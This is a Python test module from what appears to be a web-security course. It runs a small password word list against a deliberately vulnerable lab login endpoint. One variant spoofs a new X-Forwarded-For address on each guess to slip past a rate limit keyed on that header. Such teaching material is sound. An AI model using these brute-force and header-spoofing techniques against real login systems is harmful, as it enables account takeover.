"""Lesson 05, station 9: unlimited password guessing (and a limit keyed on X-Forwarded-For), against Flask-Limiter."""

from __future__ import annotations

from ..auth import ALICE
from . import attack

# A word list with Alice's password in twelfth place: five failures are allowed, not eleven.
WORDS = [
    "123456",
    "password",
    "qwerty",
    "letmein",
    "dragon",
    "monkey",
    "sunshine",
    "iloveyou",
    "princess",
    "football",
    "hunter2",
    ALICE["password"],
    "trustno1",
]


def _guess(app, target: str, header_for_guess) -> bool:
    client = app.test_client(use_cookies=False)
    for number, word in enumerate(WORDS):
        answer = client.post(target, json={"username": "alice", "password": word}, headers=header_for_guess(number))
        if answer.status_code == 200:
            return True
    return False


@attack("/vuln/brute-force/login")
def a_word_list_against_one_account(app, target) -> bool:
    return _guess(app, target, lambda number: {})


@attack("/vuln/brute-force/login-behind-proxy")
def a_new_forwarded_for_per_guess(app, target) -> bool:
    """The same word list, each guess claiming another client address (203.0.113.0/24 is for documentation)."""
    return _guess(app, target, lambda number: {"X-Forwarded-For": f"203.0.113.{number + 1}"})
